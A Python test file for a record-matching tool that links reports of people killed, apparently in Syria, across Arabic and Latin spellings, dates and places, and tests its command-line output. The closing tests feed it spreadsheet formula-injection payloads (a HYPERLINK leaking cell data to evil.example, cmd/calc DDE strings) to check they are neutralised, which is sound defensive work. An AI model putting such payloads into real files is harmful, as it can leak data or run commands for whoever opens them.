"""Matching (dedupe/): cross-script names, contract dates, pairs, links, clusters, and the
``tawthiq dedupe`` contract with its bad inputs."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from tawthiq.cli import cli
from tawthiq.dedupe import ArchiveMatcher, MatchPair, MatchRecord, cluster_pairs, dedupe_records, link_records, normalize_name, parse_date


@pytest.mark.parametrize("variants", [
    ("مصطفى محمد عجاج", "Mustafa Muhammad Ajaj", "Moustafa Mohammed Al-Ajaj", "Mostafa Mohamad al Ajjaj"),
    ("عبد الرحمن يوسف الحمود", "Abdulrahman Youssef al-Hamoud", "Abd al-Rahman Yusuf Hammoud", "Abdel Rahman Yousef Al Hamoud"),
    ("أحمد", "احمد", "إحمد", "Ahmed", "Ahmad"),
    ("فاطمة", "فاطمه", "Fatima", "Fatma", "Fatemah"),
    ("مُصْطَفَى", "مصطفـــى", "مصطفى"),  # diacritics and tatweel
    ("صالح", "Saleh", "Salih"),  # final ح and the Latin final h
    ("أحمد", "Ahmet"),  # Turkish spelling
    ("محمود", "Mahmoud", "Mahmud", "Mahmood"),
    ("حسين", "الحسين", "Hussein", "Al-Hussain"),
    ("نور الدين علي", "Nour al-Din Ali", "Nureddin Ali"),
    ("عطا الله الحمدان", "Atallah al-Hamdan"),
    ("آلان حسين", "Alan Hussein"),
    ("أحمد عبدو الحمصي", "Ahmed Abdo al-Homsi"),
    ("آمنة ماهر الحمدان", "Amina Maher al-Hamdan"),
    ("طارق جهاد الشيخ", "TARIQ JEHAD AL-SHEIKH"),  # al-Sheikh is a family name, not a title
    # Turkish spellings: a final t read as د, for the names of the learnt lexicon.
    ("محمد مراد", "Mehmet Murat", "Mehmed Murad"), ("محمود", "Mahmut"),
    ("إلهام النجار", "Ilham al-Najjar"), ("إلياس نبيل", "الياس نبيل", "Elias Nabil"),  # names that fold to ال...
    ("سامر العلوش", "سامر علوش", "Samer Alloush"),  # Alloush is a name, not al- + "Loush"
    ("ماهر طه", "Maher Taha"), ("باقر چالاك", "Baqer Chalak"),
    ("نادر الحسن", "Nader al-Hassan (Salloum)", "نادر الحسن (أبو عمر)"),  # a bracketed alias
    ("عبدي الشامي", 'Hajj "Abdi Al-Shami"', 'الحاج "عبدي الشامي"'),
])
def test_names_meet_across_scripts_and_spellings(variants: tuple[str, ...]) -> None:
    keys = {normalize_name(v) for v in variants}
    assert len(keys) == 1, keys


def test_different_names_stay_apart() -> None:
    assert normalize_name("Mustafa Muhammad Ajaj") != normalize_name("Ahmad Mustafa Ajaj")
    # Names the consonants alone would merge: a leading vowel, alef or ‘ayn.
    for one, other in (("Anas", "Nasser"), ("أنس", "ناصر"), ("Ayman", "Munir"), ("Osama", "Samer"), ("عبد القادر", "عبد الكريم")):
        assert normalize_name(one) != normalize_name(other), (one, other)
    # Long vowels: one key, told apart by the written vowels (no list of names gives them keys
    # of their own).
    from tawthiq.lang.names import vowels_differ

    for one, other in (("محمود", "محمد"), ("Mahmoud", "Mohammad"), ("حسين", "حسن"), ("سعيد", "سعد"), ("ايمن", "ايمان"),
                       ("Amina", "ايمان"), ("خالد", "خلود"), ("Mohammad", "محمود")):
        assert normalize_name(one) == normalize_name(other), (one, other)
        assert vowels_differ(one, other), (one, other)


def test_siblings_and_typos() -> None:
    """Siblings killed together share everything but their given names and stay apart, even
    when the names look alike; a misspelt given name (rare in the data) is still matched."""
    common: dict[str, Any] = dict(date_of_death="2019-04-22", governorate="Tartus", locality="Baniyas", sex="male")
    records = [MatchRecord(f"r{n}", name, **common) for n, name in enumerate(
        ["Mohammad Ahmad al-Hamoud", "Ahmad Ahmad al-Hamoud", "Mahmoud Ahmad al-Hamoud", "Hasan Ahmad al-Hamoud",
         "Hussein Ahmad al-Hamoud"])]
    assert dedupe_records(records) == []
    filler = [MatchRecord(f"f{n}", f"{given} Khaled al-Omar", date_of_death="2015-01-01") for n, given in
              enumerate(["Jamal", "Omar", "Samer", "Basel", "Walid"] * 20)]
    typo = [MatchRecord("a", "Ismail Bassam al-Asaad", **common), MatchRecord("b", "Imsail Bassam al-Asaad", **common)]
    pairs = dedupe_records(filler + typo)
    assert {(p.left_id, p.right_id) for p in pairs if "f" not in p.left_id + p.right_id} == {("a", "b")}
    assert normalize_name("") == normalize_name(None) == ""


def test_short_or_extended_given_names_are_other_names() -> None:
    """Sisters Taiba, Hiba and Tamim al-Sabbagh (two-letter keys one letter apart) and Amer and
    Amerhan (one name extended by two letters) are different people, not typos."""
    common: dict[str, Any] = dict(date_of_death="2017-03-20", locality="Tabqa")
    left = [MatchRecord("L1", "Taiba Ahmed al-Sabbagh", **common), MatchRecord("L2", "Hiba al-Sabbagh", **common),
            MatchRecord("L3", "Amer Khaled Mohammed al-Rifai", **common)]
    right = [MatchRecord("R1", "تايبا أحمد الصباغ", **common), MatchRecord("R2", "هبة الصباغ", **common),
             MatchRecord("R3", "تميم أحمد الصباغ", **common), MatchRecord("R4", "أميرهان محمد الرفاعي", **common),
             MatchRecord("R5", "عامر خالد محمد الرفاعي", **common)]
    assert {(p.left_id, p.right_id) for p in link_records(left, right)} == {("L1", "R1"), ("L2", "R2"), ("L3", "R5")}


def test_a_typo_that_lands_on_another_names_key_is_still_a_typo() -> None:
    """"Waid" is Walid with a letter dropped, though its consonants are those of وضاح
    (Waddah, a name of its own): written rarely, one letter from a spelling many records use,
    it is a misspelling and does not veto the pair. Two spellings both in common use (Walid,
    Khaled) are never taken for one another, however alike the rest of the records."""
    filler = [MatchRecord(f"f{n}", f"{given} Omar al-Hamoud", date_of_death=f"2015-0{1 + n % 9}-1{n % 10}")
              for n, given in enumerate(["Walid", "Khaled"] * 25)]
    common: dict[str, Any] = dict(date_of_death="2022-08-16", governorate="Suwayda", locality="Shahba", sex="male")
    pair = [MatchRecord("a", "Waid Tariq al-Sheikh", **common), MatchRecord("b", "Waleed Tarek Al-Shaikh", **common),
            MatchRecord("c", "Khaled Tarek Al-Shaikh", **common)]
    found = {(p.left_id, p.right_id): p for p in dedupe_records(filler + pair) if "f" not in p.left_id + p.right_id}
    assert set(found) == {("a", "b")}
    assert "given names differ by a letter or two" in found["a", "b"].explanation


def test_a_brother_and_a_sister_whose_names_share_consonants_stay_two() -> None:
    """رامي and ريم (Rami, Reem), أسامة and أسماء (Osama, Asmaa) share a skeleton; killed
    together they share everything else. Their vowels tell them apart, in either script (for
    spellings two letters apart, once the data show both are names and not slips); a letter
    slipped in a rare spelling ("Raym" among many "Ramy") is still a typo."""
    common: dict[str, Any] = dict(date_of_death="2019-07-16", governorate="Homs", locality="Tadmur")
    records = [MatchRecord("rami", "Rami Bassam al-Qamsi", **common), MatchRecord("reem", "ريم بسام القمصي", **common),
               MatchRecord("reem2", "Reem Bassam Qamsi", **common)]
    assert {(p.left_id, p.right_id) for p in dedupe_records(records)} == {("reem", "reem2")}
    filler = [MatchRecord(f"f{n}", f"{given} {father} al-Omar", date_of_death=f"2015-0{1 + n % 9}-1{n % 10}")
              for n, (given, father) in enumerate([("Ramy", "Jamal"), ("Asmaa", "Omar"), ("Osama", "Samer"), ("Ramy", "Basel")] * 10)]
    records = [MatchRecord("osama", "أسامة محمود الموركي", **common), MatchRecord("asmaa", "Asmaa Mahmoud al-Moreki", **common),
               MatchRecord("osama2", "Osama Mahmoud Moreki", **common), MatchRecord("asmaa2", "ASMAA MAHMOUD MOREKI", **common),
               MatchRecord("a", "Raym Ziad al-Homsi", **common), MatchRecord("b", "Ramy Ziad al-Homsi", **common)]
    found = {frozenset((p.left_id, p.right_id)) for p in dedupe_records(filler + records) if "f" not in p.left_id + p.right_id}
    assert found == {frozenset(pair) for pair in (("osama", "osama2"), ("asmaa", "asmaa2"), ("a", "b"))}


def test_a_given_name_and_the_sex_it_says_are_one_piece_of_evidence() -> None:
    """Fatima is a woman: two records of a Fatima that both say "female" are no likelier one
    person than if neither said it; a record saying "male" still counts against."""
    def probability(sex_a: str | None, sex_b: str | None) -> float:
        pair = [MatchRecord("a", "Fatima Omar al-Hamoud", date_of_death="2016-05", sex=sex_a),
                MatchRecord("b", "فاطمة الحمود", date_of_death="2016-05-12", sex=sex_b)]
        return dedupe_records(pair, threshold=0.0)[0].probability

    assert probability("female", "female") == probability(None, None)
    assert probability("female", "male") < probability(None, None)


def test_dates_and_places_as_a_documenter_reads_them() -> None:
    """The 31st of May is next to "June 2018"; two full dates three weeks apart are not the
    same month of death; a town given without its governorate is placed by the gazetteer
    (Saqba is in Rural Damascus, Talbiseh in Homs); DD/MM/YYYY is read in a MatchRecord too."""
    def labels(left: dict, right: dict) -> dict[str, str]:  # type: ignore[type-arg]
        pair = dedupe_records([MatchRecord("a", "Souad Yahya al-Maliki", **left), MatchRecord("b", "سعاد يحيى المالكي", **right)],
                              threshold=0.0)
        return pair[0].levels if pair else {}

    assert labels(dict(date_of_death="2018-05-31"), dict(date_of_death="2018-06"))["date_of_death"] == "same month of death"
    assert labels(dict(date_of_death="2020-12"), dict(date_of_death="2021-01-02"))["date_of_death"] == "same month of death"
    assert labels(dict(date_of_death="2018-05-02"), dict(date_of_death="2018-05-23"))["date_of_death"] == "dates of death weeks apart"
    assert labels(dict(date_of_death="22/07/2013"), dict(date_of_death="2013-07-22"))["date_of_death"] == "same date of death"
    assert labels(dict(locality="Saqba"), dict(locality="Talbiseh"))["place_of_death"] == "different governorates"
    assert labels(dict(locality="Saqba"), dict(governorate="Rural Damascus", locality="سقبا"))["place_of_death"] == "same town or village"
    assert labels(dict(governorate="إدلب"), dict(governorate="Idlib"))["place_of_death"] == "same governorate (town not known on one side)"
    phrases = dedupe_records([MatchRecord("a", "Souad Yahya al-Maliki", date_of_death="2018-05-02"),
                              MatchRecord("b", "Souad Yahya al-Maliki", date_of_death="2018-05-23")], threshold=0.0)[0].explanation
    assert "dates of death 21 days apart" in phrases


@pytest.mark.parametrize("text, expected", [
    ("20130101", "2013-01-01"), ("2013-01-05", "2013-01-05"), ("05/01/2013", "2013-01-05"), ("2013-01", "2013-01"),
    ("2013", "2013"), ("00/00/2013", "2013"), ("2013-02-30", "2013-02"), ("٢٠٢٤-٠٣-٠٥", "2024-03-05"),
    ("not a date", None), ("", None), (None, None),
])
def test_contract_dates(text: str | None, expected: str | None) -> None:
    assert parse_date(text) == expected


def family() -> list[MatchRecord]:
    """One victim reported three times (two scripts, a typo) and her relatives killed with her
    (same family name, date and place: the hard negatives), plus unrelated people."""
    return [
        MatchRecord("a1", "Salma Omar al-Qasim", None, "2024-03-05", "Aleppo", "Atarib", "female", 9),
        MatchRecord("a2", "سلمى عمر القاسم", None, "2024-03-05", "Aleppo", "الأتارب", "female", None),
        MatchRecord("a3", "Salma Omer Qassem", None, "2024-03-06", "Aleppo", None, None, 9),
        MatchRecord("b1", "Ahmad Omar al-Qasim", None, "2024-03-05", "Aleppo", "Atarib", "male", 12),
        MatchRecord("c1", "Hind Khaled al-Qasim", None, "2024-03-05", "Aleppo", "Atarib", "female", 35),
        MatchRecord("d1", "Mustafa Muhammad Ajaj", None, "2024-03-02", "Idlib", "Ariha", "male", 38),
        MatchRecord("d2", "مصطفى محمد عجاج", None, "02/03/2024", "Idlib", "أريحا", None, None),
        MatchRecord("e1", "Walid Hamad al-Masri", None, "2024-02-27", "Daraa", "Tafas", "male", 50),
        MatchRecord("f1", "Omar Hussein al-Khatib", None, "2024-03-11", "Idlib", "Sarmin", "male", 22),
        MatchRecord("g1", "Nour Adel Kassem", None, "2024-03-11", "Idlib", "Sarmin", "female", 30),
    ]


def test_dedupe_finds_the_same_person_and_not_their_relatives() -> None:
    pairs = {frozenset((p.left_id, p.right_id)) for p in dedupe_records(family())}
    assert {frozenset(("a1", "a2")), frozenset(("a1", "a3")), frozenset(("d1", "d2"))} <= pairs
    for relative in ("b1", "c1"):
        assert not any(relative in pair for pair in pairs)
    assert all(0.9 <= p.probability <= 1 for p in dedupe_records(family()))


def test_pairs_are_explained_in_words() -> None:
    pair = next(p for p in dedupe_records(family()) if {p.left_id, p.right_id} == {"d1", "d2"})
    assert pair.explanation and all(isinstance(phrase, str) for phrase in pair.explanation)
    assert any("name" in phrase for phrase in pair.explanation)


def test_link_and_archive_matcher_keep_archive_ids() -> None:
    archive = [MatchRecord(f"v:{i}", r.full_name, None, r.date_of_death, r.governorate, r.locality, r.sex, r.age)
               for i, r in enumerate(family()) if r.id in ("a1", "d1", "e1", "b1")]
    new = [MatchRecord("n1", "سلمى عمر القاسم", None, "2024-03-05", "Aleppo", None),
           MatchRecord("n2", "Someone Entirely Different", None, "2019-01-01", "Homs", None)]
    links = link_records(new, archive)
    assert [(p.left_id, p.right_id) for p in links] == [("n1", "v:0")]
    matcher = ArchiveMatcher(archive)
    matcher.add([MatchRecord("v:99", "Someone Entirely Different", None, "2019-01-01", "Homs", None)])
    assert {p.right_id for p in matcher.match(new) if p.left_id == "n2"} == {"v:99"}


def test_clusters_do_not_chain_unrelated_people() -> None:
    chain = [MatchPair("a", "b", 0.99), MatchPair("b", "c", 0.95), MatchPair("c", "d", 0.94)]
    # a~b, b~c, c~d: joining {a,b,c} with d would rest on one link out of three
    assert cluster_pairs(chain) == [{"a", "b", "c"}]
    assert cluster_pairs(chain + [MatchPair("a", "c", 0.10)]) == [{"a", "b"}, {"c", "d"}]  # a and c compared unlike
    assert cluster_pairs([MatchPair("a", "b", 0.99), MatchPair("b", "c", 0.95)], cannot_link=[("a", "c")]) == [{"a", "b"}]
    assert cluster_pairs([MatchPair("a", "b", 0.99), MatchPair("b", "c", 0.95), MatchPair("a", "c", 0.93)]) == [{"a", "b", "c"}]


def test_bad_records_are_unknown_not_a_crash() -> None:
    records = [MatchRecord("1", ""), MatchRecord("2", "A"), MatchRecord("3", "Ahmad أحمد mixed"),
               MatchRecord("4", None, date_of_death=parse_date("00/00/2013")), MatchRecord("5", "Ahmad Mixed")]
    assert isinstance(dedupe_records(records), list)
    assert dedupe_records([]) == [] and dedupe_records(records[:1]) == []


# --- the `tawthiq dedupe` contract -----------------------------------------------------------

def write_csv(path: Path, rows: list[dict[str, str]], encoding: str = "utf-8") -> Path:
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    path.write_bytes(buffer.getvalue().encode(encoding))
    return path


def as_rows(records: list[MatchRecord]) -> list[dict[str, str]]:
    rows = []
    for r in records:
        first, _, last = (r.full_name or "").rpartition(" ")
        rows.append({"rid": r.id, "first": first, "last": last, "dod": r.date_of_death or "", "town": r.locality or "",
                     "gov": r.governorate or "", "sex": r.sex or "", "age": str(r.age or "")})
    return rows


FIELDS = ["--field", "full_name=first+last", "--field", "date_of_death=dod", "--field", "locality=town",
          "--field", "governorate=gov", "--field", "sex=sex", "--field", "age=age"]


def test_dedupe_command_writes_the_contract_csv(tmp_path: Path) -> None:
    left = write_csv(tmp_path / "left.csv", as_rows(family()))
    result = CliRunner().invoke(cli, ["dedupe", str(left), "--id", "rid", *FIELDS])
    assert result.exit_code == 0, result.output
    lines = result.output.strip().splitlines()
    assert lines[0] == "left_id,right_id,probability"
    found = {frozenset(line.split(",")[:2]) for line in lines[1:]}
    assert frozenset(("d1", "d2")) in found and not any("b1" in pair for pair in found)
    assert all(0.9 <= float(line.split(",")[2]) <= 1 for line in lines[1:])

    # a stricter threshold never adds pairs; --out writes a file
    out = tmp_path / "pairs.csv"
    result = CliRunner().invoke(cli, ["dedupe", str(left), "--id", "rid", *FIELDS, "--threshold", "0.999", "--out", str(out)])
    assert result.exit_code == 0 and out.read_text().startswith("left_id,right_id,probability\n")
    assert len(out.read_text().splitlines()) <= len(lines)


def test_dedupe_command_links_two_files_in_different_encodings(tmp_path: Path) -> None:
    records = family()
    left = write_csv(tmp_path / "left.csv", as_rows([r for r in records if r.id in ("a2", "d2")]), "cp1256")
    right = write_csv(tmp_path / "right.csv", as_rows([r for r in records if r.id not in ("a2", "d2")]), "utf-8-sig")
    result = CliRunner().invoke(cli, ["dedupe", str(left), str(right), "--id", "rid", *FIELDS])
    assert result.exit_code == 0, result.output
    found = {tuple(line.split(",")[:2]) for line in result.output.strip().splitlines()[1:]}
    assert ("a2", "a1") in found and ("d2", "d1") in found
    assert all(left_id in ("a2", "d2") for left_id, _ in found)


@pytest.mark.parametrize("content, args, message", [
    (b"rid,first\n1,Ahmad\n", ["--id", "id", "--field", "full_name=first"], "no --id column 'id'"),
    (b"rid,first\n1,Ahmad\n", ["--id", "rid", "--field", "full_name=first+last"], "no columns 'last'"),
    (b"rid,first\n1,Ahmad\n", ["--id", "rid", "--field", "name=first"], "unknown target 'name'"),
    (b"rid,first\n1,Ahmad\n", ["--id", "rid", "--field", "date_of_death=first"], "full_name=COLUMN is required"),
    (b"rid,first\n1,Ahmad\n1,Omar\n", ["--id", "rid", "--field", "full_name=first"], "appears twice"),
    (b'rid,first\n1,"Ahmad\n', ["--id", "rid", "--field", "full_name=first"], "not a readable CSV"),
    (b"", ["--id", "rid", "--field", "full_name=first"], "empty"),
    (b"\x00\x01\x02binary\x00" * 50, ["--id", "rid", "--field", "full_name=first"], "binary"),
])
def test_dedupe_command_bad_input_is_a_clear_error(tmp_path: Path, content: bytes, args: list[str], message: str,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "bad.csv"
    path.write_bytes(content)
    from tawthiq.cli import main

    with pytest.raises(SystemExit) as exit_info:
        main(["dedupe", str(path), *args])
    assert exit_info.value.code != 0
    assert message in capsys.readouterr().err


def test_dedupe_command_error_messages_name_the_problem(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from tawthiq.cli import main

    path = tmp_path / "people.csv"
    path.write_bytes(b"rid,first\n1,Ahmad\n")
    with pytest.raises(SystemExit):
        main(["dedupe", str(path), "--id", "ID", "--field", "full_name=first"])
    err = capsys.readouterr().err
    assert "people.csv" in err and "no --id column 'ID'" in err and "rid, first" in err
    path.write_bytes(b"rid,name,dod,age\n1,A,00/00/2013,unknown\n2,Ahmad Omar,2013,\n")
    main(["dedupe", str(path), "--id", "rid", "--field", "full_name=name", "--field", "date_of_death=dod", "--field", "age=age"])
    assert capsys.readouterr().out.startswith("left_id,right_id,probability")


def test_typos_and_broken_articles_do_not_make_another_name() -> None:
    """العبد الله is the compound Abdullah; Ayman, Iman and Amina share a key (no name has one
    of its own) and are told apart by their written vowels; an article split by the space bar."""
    from tawthiq.lang.names import vowels_differ

    assert normalize_name("Mahmyd Huasin") == normalize_name("محمود حسين") == normalize_name("Mohammad Hasan")
    assert vowels_differ("Mahmoud", "Mohammad") and vowels_differ("Hussein", "Hasan")
    assert normalize_name("Leena Mustafa Al Abdallah") == normalize_name("لينا مصطفى العبد الله")
    assert normalize_name("Hamzah a-Jubouri") == normalize_name("حمزة الجبوري")
    assert normalize_name("Aicha Adbel Rahman") == normalize_name("عائشة عبد الرحمن")
    assert len({normalize_name(n) for n in ("أيمن", "إيمان", "آمنة", "Ayman", "Iman", "Amina")}) == 1
    assert vowels_differ("ايمن", "ايمان") and vowels_differ("amina", "ايمان") and vowels_differ("ayman", "amina")  # folded forms
    # An article split in the wrong place by the space bar.
    assert normalize_name("Hamzah A lHassan") == normalize_name("حمزة الحسن")
    assert normalize_name("Mousa AlH assan") == normalize_name("موسى الحسن")
    assert normalize_name("Ziad a-lHamoud") == normalize_name("زياد الحمود")
    assert normalize_name("Ali Hassan") == normalize_name("علي حسن")  # "Ali" is not "al" + "i"


def test_documenters_confirmations_refine_the_model() -> None:
    """Pairs documenters confirmed teach the engine what real matches look like here: when
    many confirmed matches had different family names (a tribe's name in one source, the
    family's in another), such a pair is judged more likely one person than before."""
    from tawthiq.dedupe import engine

    pair = [MatchRecord("a", "Ahmad Khaled al-Jubouri", date_of_death="2016-05", governorate="Deir Ez-Zour"),
            MatchRecord("b", "Ahmad Khaled al-Shammari", date_of_death="2016-05-02", governorate="Deir Ez-Zour")]
    filler = [MatchRecord(f"f{n}", f"{given} {father} al-Omar", date_of_death=f"2015-0{1 + n % 9}-1{n % 10}")
              for n, (given, father) in enumerate([("Jamal", "Samer"), ("Omar", "Basel"), ("Walid", "Nabil")] * 30)]
    confirmed = [{"given_name": "same given name", "father_name": "same father's name", "family_name": "family names differ",
                  "date_of_death": "same month of death", "place_of_death": "same governorate (town not known on one side)"}] * 300

    def odds(**kwargs) -> float:  # type: ignore[no-untyped-def]
        p = next(p.probability for p in dedupe_records(pair + filler, threshold=0.0, **kwargs) if {p.left_id, p.right_id} == {"a", "b"})
        return p / max(1 - p, 1e-9)

    assert odds(confirmed=confirmed) > 4 * odds()
    row = engine.levels_from_labels(confirmed[0])
    assert [engine.COMPARISONS[c].level(int(row[c])).label for c in range(5)] == list(confirmed[0].values())
    assert engine.levels_from_labels({"given_name": "a label from another version"})[0] == -1


# --- CSV written for spreadsheets ------------------------------------------------------------

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "@SUM(1)", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "\t=1+1"]


def test_spreadsheet_safe_prefixes_formula_text_and_leaves_the_rest() -> None:
    from tawthiq.dedupe.files import spreadsheet_safe

    for text in FORMULAS + ["-3"]:  # text that looks like a negative number is prefixed too (OWASP): it came from outside
        assert spreadsheet_safe(text) == "'" + text
    for value in ["مصطفى محمد عجاج", "عبد الرحمن", "Ahmad al-Hamoud", "2024-03-05", "a=b", "", " =1", "'quoted"]:
        assert spreadsheet_safe(value) == value
    for number in (3, -3, -0.5, 12.5, 0):  # numbers tawthiq computes stay numbers, negative or not
        assert spreadsheet_safe(number) == number and type(spreadsheet_safe(number)) is type(number)
    assert spreadsheet_safe(None) is None and spreadsheet_safe(True) is True
    # A carriage return: prefixed at the start, and written as a line feed (which the csv
    # module quotes; a bare one it writes unquoted, breaking the row).
    assert spreadsheet_safe("\r=1+1") == "'\n=1+1" and spreadsheet_safe("first\r\nsecond\rthird") == "first\nsecond\nthird"


def test_pairs_csv_neutralises_formula_ids_and_keeps_arabic_ones() -> None:
    from tawthiq.dedupe.files import write_pairs

    out = io.StringIO()
    write_pairs([MatchPair("=HYPERLINK(\"http://evil.example\",\"x\")", "@SUM(1)", 0.99), MatchPair("مصطفى-١", "-7", 0.95),
                 MatchPair("\r=1+1", "\t+1", 0.91)], out)
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert rows[0] == ["left_id", "right_id", "probability"]
    assert rows[1] == ["'=HYPERLINK(\"http://evil.example\",\"x\")", "'@SUM(1)", "0.990000"]
    assert rows[2] == ["مصطفى-١", "'-7", "0.950000"]
    assert rows[3] == ["'\n=1+1", "'\t+1", "0.910000"] and len(rows) == 4


def test_dedupe_command_out_file_has_no_formula_cells(tmp_path: Path) -> None:
    """`tawthiq dedupe --out`: ids from a partner's file that a spreadsheet would run come out
    with a leading quote; the Arabic id of the same person is as it was."""
    rows = [{"rid": rid, "name": "مصطفى محمد عجاج", "dod": "2013-05-03", "town": "Darayya"}
            for rid in ('=HYPERLINK("http://evil.example","x")', "@SUM(1)", "محمد-٢")]
    left = write_csv(tmp_path / "left.csv", rows)
    out = tmp_path / "pairs.csv"
    result = CliRunner().invoke(cli, ["dedupe", str(left), "--id", "rid", "--field", "full_name=name", "--field", "date_of_death=dod",
                                      "--field", "locality=town", "--out", str(out)])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(out.read_text(encoding="utf-8"))) for cell in row[:2]][2:]
    assert set(cells) == {"'=HYPERLINK(\"http://evil.example\",\"x\")", "'@SUM(1)", "محمد-٢"}


def test_reading_a_file_with_long_fields_leaves_the_csv_limit_as_it_was(tmp_path: Path) -> None:
    """read_records reads fields up to 10 MB, but only while it reads: the csv module's limit
    is the whole process's, and the folder source counts on the default one."""
    from tawthiq.dedupe.files import read_records
    from tawthiq.errors import ConfigError

    before = csv.field_size_limit()
    path = tmp_path / "long.csv"
    path.write_text("rid,name,notes\n1,Ahmad Hasan," + "x" * 300_000 + "\n", encoding="utf-8")
    [record] = read_records(path, "rid", {"full_name": ["name"]})
    assert record.full_name == "Ahmad Hasan" and csv.field_size_limit() == before
    path.write_text('rid,name\n1,"Ahmad\n', encoding="utf-8")
    with pytest.raises(ConfigError, match="not a readable CSV"):
        read_records(path, "rid", {"full_name": ["name"]})
    assert csv.field_size_limit() == before


@pytest.fixture
def lexicon_with(monkeypatch: pytest.MonkeyPatch) -> Any:
    """Adds names to the learnt name lexicon (tawthiq/lang/name_lexicon.py) for one test."""
    from tawthiq.lang import name_lexicon, names

    def clear() -> None:
        for cached in (names._lexicon_skeletons, names._latin_reading, names._latin_skeleton, names.name_parts,
                       names.vowel_slots, names.common_skeletons, names.learnt_common_skeletons):
            cached.cache_clear()

    def add(*forms: str) -> None:
        monkeypatch.setattr(name_lexicon, "GIVEN", {**name_lexicon.GIVEN, **dict.fromkeys(forms, name_lexicon.MIN_COUNT)})
        clear()

    yield add
    monkeypatch.undo()
    clear()


@pytest.mark.parametrize(("latin", "arabic"), [("Munther al-Ali", "منذر العلي"), ("Fadhel Hamoud", "فاضل حمود"),
                                               ("Ramadhan Khalil", "رمضان خليل"), ("Fathi Darwish", "فتحي درويش"),
                                               ("Adham Fathi al-Najjar", "أدهم فتحي النجار"),
                                               ("Adhem Fathy Najjar", "أدهم فتحي النجار"), ("Munzer Said", "منذر سعيد")])
def test_th_and_dh_spellings_share_the_arabic_names_key(lexicon_with: Any, latin: str, arabic: str) -> None:
    """The archive is searched by name key: a Latin spelling and the Arabic name it writes
    must meet there, not only in the matcher. Latin th and dh write several letters (ث, ذ, ض,
    or two: ت+ح, د+ه); a spelling is read as the name of the learnt lexicon the transliteration
    model finds it likeliest to write. The dev data write these names fewer than three times, so
    they are added here as a larger dev set would."""
    from tawthiq.lang.names import normalize_name

    lexicon_with("منذر", "منصور", "فاضل", "رمضان", "فتحي", "ادهم")
    assert normalize_name(latin) == normalize_name(arabic)
    # Mansour, in the lexicon too, keeps its own key.
    assert normalize_name("Mansour") == normalize_name("منصور") != normalize_name("Munther")
